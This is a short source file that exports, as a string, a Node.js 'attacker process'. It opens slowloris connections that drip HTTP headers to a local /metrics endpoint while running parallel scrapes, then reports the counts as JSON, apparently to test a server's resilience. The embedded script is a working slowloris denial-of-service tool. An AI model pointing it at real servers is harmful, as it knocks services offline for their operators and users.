/**
 * The attacker process: argv PORT SLOW SCRAPERS MS. Opens SLOW slowloris
 * connections, then keeps SCRAPERS scrapes in flight for MS milliseconds,
 * and prints a JSON line of what happened.
 */
export const ATTACKER = `
const http = require('node:http'); const net = require('node:net');
const [port, slow, scrapers, ms] = process.argv.slice(1).map(Number);
const out = { slow_opened: 0, slow_closed_by_server: 0, scrapes_ok: 0, scrapes_failed: 0 };
const socks = [];
function loris() { return new Promise((res) => { const s = net.connect({ host: '127.0.0.1', port }, () => { out.slow_opened++;
  s.write('GET /metrics HTTP/1.1\\r\\nHost: x\\r\\n'); const drip = setInterval(() => s.writable && s.write('X-a: b\\r\\n'), 500);
  s.on('close', () => { clearInterval(drip); if (!s.mine) out.slow_closed_by_server++; }); res(); });
  s.on('error', () => res()); socks.push(s); }); }
function scrape() { return new Promise((res) => { const r = http.get({ host: '127.0.0.1', port, path: '/metrics', agent: false }, (x) => { x.resume(); x.on('end', () => { out.scrapes_ok++; res(); }); }); r.on('error', () => { out.scrapes_failed++; res(); }); }); }
(async () => {
  for (let i = 0; i < slow; i++) await loris();
  const until = Date.now() + ms;
  await Promise.all(Array.from({ length: scrapers }, async () => { while (Date.now() < until) await scrape(); }));
  await new Promise((r) => setTimeout(r, 2500));
  for (const s of socks) { s.mine = true; s.destroy(); }
  console.log(JSON.stringify(out));
})();
`;

